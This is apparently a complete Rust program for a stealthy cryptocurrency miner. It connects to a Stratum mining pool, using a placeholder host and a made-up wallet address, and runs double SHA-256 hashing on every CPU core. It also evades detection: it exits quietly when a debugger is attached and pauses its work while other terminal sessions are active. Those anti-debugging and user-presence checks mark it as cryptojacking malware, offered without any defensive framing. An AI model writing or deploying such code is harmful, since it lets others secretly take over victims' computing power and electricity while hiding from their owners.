use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::sync::mpsc;
use std::{fs, thread, time::Duration};

use serde_json::{json, Value};
use sha2::{Digest, Sha256};

const POOL: &str = "stratum.pool.invalid:3333";
const WORKER: &str = "bc1qmadeupaddressmadeup0000000.w1";

fn busy() -> bool {
    fs::read_dir("/dev/pts").map(|d| d.count() > 1).unwrap_or(false)
}

fn main() -> std::io::Result<()> {
    if !fs::read_to_string("/proc/self/status")?.contains("TracerPid:\t0") {
        return Ok(());
    }
    let s = TcpStream::connect(POOL)?;
    let mut w = s.try_clone()?;
    writeln!(w, "{}", json!({"id":1,"method":"mining.subscribe","params":[]}))?;
    writeln!(w, "{}", json!({"id":2,"method":"mining.authorize","params":[WORKER,"x"]}))?;
    let (tx, rx) = mpsc::channel::<(String, u32)>();
    thread::spawn(move || {
        for (job, nonce) in rx {
            let _ = writeln!(w, "{}", json!({"id":4,"method":"mining.submit","params":[WORKER, job, "00000000", "00000000", format!("{nonce:08x}")]}));
        }
    });
    for line in BufReader::new(s).lines() {
        let v: Value = serde_json::from_str(&line?).unwrap_or_default();
        if v["method"] != "mining.notify" {
            continue;
        }
        let job = v["params"][0].as_str().unwrap_or("").to_string();
        let cores = thread::available_parallelism()?.get() as u32;
        for c in 0..cores {
            let (tx, job, head) = (tx.clone(), job.clone(), v["params"].to_string());
            thread::spawn(move || {
                for n in (c..u32::MAX).step_by(cores as usize) {
                    if n % 1_000_000 == 0 && busy() {
                        thread::sleep(Duration::from_secs(30));
                    }
                    let h = Sha256::digest(Sha256::digest(format!("{head}{n:08x}")));
                    if h[31] == 0 && h[30] == 0 && h[29] == 0 && h[28] == 0 {
                        let _ = tx.send((job.clone(), n));
                        break;
                    }
                }
            });
        }
    }
    Ok(())
}
